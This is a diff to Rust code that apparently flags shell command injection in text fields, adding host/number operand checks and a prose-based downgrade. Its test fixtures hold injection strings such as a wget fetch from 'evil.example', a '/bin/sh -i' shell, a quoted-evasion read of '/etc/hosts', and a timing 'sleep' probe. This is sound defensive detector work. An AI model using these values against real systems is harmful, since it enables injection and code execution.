@@ -223,14 +223,33 @@ fn is_command(word: &str) -> bool {
     COMMANDS.contains(&w.as_str())
 }
 
-/// Prose: at least four alphabetic words outside backtick spans.
-fn prose_outside_backticks(s: &str) -> bool {
-    let outside: String = s.split('`').step_by(2).collect::<Vec<_>>().join(" ");
-    outside
-        .split_whitespace()
+/// Prose: at least four words of two letters or more.
+fn prose(s: &str) -> bool {
+    s.split_whitespace()
         .filter(|w| w.chars().filter(|c| c.is_alphabetic()).count() >= 2)
         .count()
         >= 4
+}
+
+/// Prose outside backtick spans (Markdown code in a sentence).
+fn prose_outside_backticks(s: &str) -> bool {
+    prose(&s.split('`').step_by(2).collect::<Vec<_>>().join(" "))
+}
+
+/// A number (`10`, `3.5`) or a host name (`evil.example`, `10.0.0.1`).
+fn number_or_host(a: &str) -> bool {
+    let a = a.trim_end_matches([',', '.']);
+    if !a.is_empty() && a.bytes().all(|c| c.is_ascii_digit() || c == b'.') {
+        return true;
+    }
+    let labels: Vec<&str> = a.split('.').collect();
+    labels.len() >= 2
+        && labels
+            .iter()
+            .all(|l| !l.is_empty() && l.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'-'))
+        && labels
+            .last()
+            .is_some_and(|t| t.len() >= 2 && t.bytes().all(|c| c.is_ascii_alphabetic()))
 }
 
 /// Judges the command at `start` (after a separator of kind `sep`).
@@ -250,8 +269,17 @@ fn judge(s: &str, start: usize, sep: char) -> Option<(u32, String)> {
         .replace("$IFS", " ");
     let args: Vec<&str> = after.split_whitespace().collect();
     let ends = args.is_empty();
-    let shaped = ends || args.iter().any(|a| shell_arg(a)) || seg.contains("${IFS}");
+    // `sleep 10`, `nslookup evil.example`: one or two operands, each a
+    // number or a host name, are a command's, not a sentence's.
+    let operands = args.len() <= 2 && args.iter().all(|a| number_or_host(a));
+    let shaped = ends || operands || args.iter().any(|a| shell_arg(a)) || seg.contains("${IFS}");
     let evidence = format!("{sep} {}", seg.trim());
+    // In prose (a support message quoting a command), a command line is
+    // only suspicious: the words around it say what the value is.
+    let outside = s.replacen(seg, " ", 1);
+    if shaped && sep != '`' && prose(&outside) {
+        return Some((SUSPICIOUS, evidence));
+    }
     if shaped {
         Some((CRITICAL, evidence))
     } else if args.len() <= 2 && sep != '&' {
@@ -358,6 +386,8 @@ mod tests {
             "; ping -c 3 203.0.113.5",
             "|| wget http://evil.example/a -O /tmp/a",
             "a;uname${IFS}-a",
+            "; sleep 10",
+            "| nslookup evil.example",
             "x;c'a't /etc/hosts",
             "file.txt; /bin/sh -i",
             "x\nid",
@@ -380,6 +410,8 @@ mod tests {
             "Can you run the reconciliation script again? We use python3 and bash on our side.",
             "Salt & pepper; cat food and dog food are in aisle 4",
             "R&D budget; find the numbers in the attached sheet",
+            "I tried restarting the worker; curl -v https://api.example.com/health still shows 503.",
+            "Steps:\n```\ncurl -X POST https://api.example.com/v1/payments -d amount=100\n```\nYou get a 500; the body says nothing.",
             "/search?q=system&sort=id",
             "mode=exec&view=summary",
         ] {
